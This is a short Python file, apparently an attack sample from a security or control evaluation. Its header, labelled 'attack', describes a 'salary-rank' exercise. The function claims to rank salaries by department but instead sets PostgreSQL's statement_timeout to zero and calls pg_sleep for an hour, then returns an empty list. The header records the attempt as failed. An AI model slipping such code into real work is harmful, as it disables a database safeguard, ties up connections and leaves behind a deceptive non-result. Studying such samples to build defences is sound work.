# /// attack
# exercise = "salary-rank"
# trick = "set_config switches the time-out off, then pg_sleep keeps the connection busy"
# outcome = ["failed"]
# witness = ["update-salary"]
# ///

from sqlalchemy import func, select


async def salary_rank_by_department(session):
    await session.execute(select(func.set_config("statement_timeout", "0", False)))
    await session.execute(select(func.pg_sleep(3600)))
    return []
